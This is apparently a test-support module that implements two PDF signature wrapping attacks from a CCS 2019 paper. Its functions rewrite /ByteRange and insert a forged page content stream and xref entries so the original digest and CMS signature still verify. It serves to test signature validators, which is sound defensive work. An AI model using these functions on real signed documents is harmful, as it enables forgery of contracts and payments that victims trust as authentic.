"""SWA: signature wrapping attacks (Mladenov et al., CCS 2019, §5.3).

From Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, "1 Trillion Dollar Refund:
How to Spoof PDF Signatures", ACM CCS 2019. pyHanko writes /ByteRange after /Contents,
so the /ByteRange value lies in the second signed range. The attacker copies that second
range (the original tail, up to and including %%EOF) unchanged to a new place, changes
the real /ByteRange to point at the copy and fills the enlarged gap with its own
objects. The bytes the /ByteRange names are exactly the bytes the signer signed: the
digest and the CMS signature verify.

Example::

    forged = swa_relocated_tail(signed_base())   # /ByteRange [0 b c* d], digest intact
"""

from __future__ import annotations

from tests.support.attacks._base import (
    _forged_content,
    _parse_xref_lines,
    _reader,
    _size,
    _trailer_for_update,
    _xref_section,
    last_startxref,
    sig_layout,
    stream,
)


def _original_xref_section(signed: bytes) -> bytes:
    """The last xref section's subsection lines (without ``xref`` and the trailer)."""
    n = last_startxref(signed)
    end = signed.index(b"trailer", n)
    return signed[n + len(b"xref\n"):end]



def swa_relocated_tail(signed: bytes) -> bytes:
    """SWA variant 1: /ByteRange ``[0 b c* d]`` with the original tail copied to the end
    of the file, so the ranges still reach EOF ("entire file signed").

    The tail's ``startxref`` names the offset where the original last xref was; the
    attacker puts its own xref section exactly there, inside the gap, listing a
    forged content stream (also in the gap) for the page.
    """
    lay = sig_layout(signed)
    _, b, c, d = lay.byte_range
    assert c + d == len(signed)
    n = last_startxref(signed)
    tail = signed[c:]
    head = signed[c:n]  # rest of the signature dict and later objects, up to the xref
    contents = _reader(signed).root["/Pages"]["/Kids"][0].raw_get("/Contents")
    entries = _parse_xref_lines(_original_xref_section(signed))
    old_trailer = signed[signed.index(b"trailer", n):signed.index(b"startxref", n)]
    forged = b"%d 0 obj\n%s\nendobj\n" % (contents.idnum, stream(_forged_content(signed)))

    def xref_at(forged_offset: int) -> bytes:
        table = {**entries, contents.idnum: forged_offset}
        return _xref_section(table, with_free_head=False) + old_trailer

    probe = xref_at(0)
    forged_offset = n + len(probe)
    gap = head + xref_at(forged_offset) + forged + b"% padding\n"
    new_c = c + len(gap)
    br_start, br_end = lay.br_slot[0] - c, lay.br_slot[1] - c
    new_br = b"[0 %d %d %d]" % (b, new_c, d)
    gap = gap[:br_start] + new_br.ljust(br_end - br_start) + gap[br_end:]
    assert len(gap) == new_c - c
    return signed[:c] + gap + tail


def swa_gap_objects_new_xref(signed: bytes) -> bytes:
    """SWA variant 2: /ByteRange ``[0 b c* d]`` with the original tail copied after a
    gap holding the attacker's objects; an update appended after the copy points into
    the gap (the signed ranges end at a ``%%EOF``, like a signed earlier revision)."""
    lay = sig_layout(signed)
    _, b, c, d = lay.byte_range
    n = last_startxref(signed)
    tail = signed[c:]
    head = signed[c:n]
    contents = _reader(signed).root["/Pages"]["/Kids"][0].raw_get("/Contents")
    forged_offset = n  # right where the original xref was
    forged = b"%d 0 obj\n%s\nendobj\n" % (contents.idnum, stream(_forged_content(signed)))
    gap = head + forged
    new_c = c + len(gap)
    br_start, br_end = lay.br_slot[0] - c, lay.br_slot[1] - c
    new_br = b"[0 %d %d %d]" % (b, new_c, d)
    gap = gap[:br_start] + new_br.ljust(br_end - br_start) + gap[br_end:]
    body = signed[:c] + gap + tail
    copied_xref = new_c + (n - c)
    at = len(body)
    update = _xref_section({contents.idnum: forged_offset}, with_free_head=False)
    update += _trailer_for_update(signed, size=_size(signed), prev=copied_xref)
    update += b"startxref\n%d\n%%%%EOF\n" % at
    return body + update
